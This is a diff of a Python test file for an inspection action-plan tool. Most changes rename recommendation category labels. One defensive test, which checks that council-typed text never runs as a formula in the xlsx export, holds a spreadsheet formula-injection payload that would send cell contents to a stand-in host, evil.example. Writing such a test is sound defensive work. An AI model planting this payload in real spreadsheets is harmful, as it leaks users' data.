@@ -69,7 +69,7 @@ def _inspection(url: str, framework: str, recs: list[tuple[str, str | None]], pu
 
 
 def test_sif_recommendations_become_actions(db_url: str) -> None:
-    iid = _inspection(db_url, "sif", [(t, "recommendations") for t in LUTON_2016], date(2016, 3, 29))
+    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
     with session_scope(db_url) as s:
         acts = plan.actions_from_inspection(s, iid, ACTOR, owner="Head of service", today=TODAY)
         assert len(acts) == 3
@@ -94,7 +94,7 @@ def test_jar_and_ilacs_timescales(db_url: str) -> None:
         date(2008, 4, 22),
     )
     ilacs = _inspection(
-        db_url, "ilacs_2023", [("Improve the front door.", "areas_for_priority_action")], date(2023, 9, 4)
+        db_url, "ilacs_2023", [("Improve the front door.", "priority_action")], date(2023, 9, 4)
     )
     with session_scope(db_url) as s:
         a_jar = plan.actions_from_inspection(s, jar, ACTOR, default_due=None, today=date(2008, 5, 1))
@@ -109,7 +109,7 @@ def test_jar_and_ilacs_timescales(db_url: str) -> None:
 
 
 def test_unknown_recommendation_and_bad_updates_change_nothing(db_url: str) -> None:
-    iid = _inspection(db_url, "sif", [(LUTON_2016[0], "recommendations")], date(2016, 3, 29))
+    iid = _inspection(db_url, "sif", [(LUTON_2016[0], "recommendation")], date(2016, 3, 29))
     with session_scope(db_url) as s:
         aid = plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)[0].id
     with pytest.raises(plan.ActionError, match="no recommendation with id 9999"), session_scope(db_url) as s:
@@ -134,7 +134,7 @@ def test_unknown_recommendation_and_bad_updates_change_nothing(db_url: str) -> N
 
 
 def test_views_overdue_and_at_risk(db_url: str) -> None:
-    iid = _inspection(db_url, "sif", [(t, "recommendations") for t in LUTON_2016], date(2016, 3, 29))
+    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
     with session_scope(db_url) as s:
         acts = plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)
         plan.update_action(s, acts[0].id, ACTOR, due=date(2016, 5, 1), today=TODAY)
@@ -148,7 +148,7 @@ def test_views_overdue_and_at_risk(db_url: str) -> None:
 
 
 def test_xlsx_round_trip_edit_and_errors(db_url: str, tmp_path: Path) -> None:
-    iid = _inspection(db_url, "sif", [(t, "recommendations") for t in LUTON_2016], date(2016, 3, 29))
+    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
     with session_scope(db_url) as s:
         plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)
     out = tmp_path / "plan.xlsx"
@@ -221,7 +221,7 @@ def test_text_a_council_types_never_runs_as_a_formula_in_the_export(db_url: str,
     re-imports unchanged."""
     import zipfile
 
-    iid = _inspection(db_url, "sif", [(t, "recommendations") for t in LUTON_2016], date(2016, 3, 29))
+    iid = _inspection(db_url, "sif", [(t, "recommendation") for t in LUTON_2016], date(2016, 3, 29))
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Evidence")'
     with session_scope(db_url) as s:
         first = plan.actions_from_inspection(s, iid, ACTOR, today=TODAY)[0]
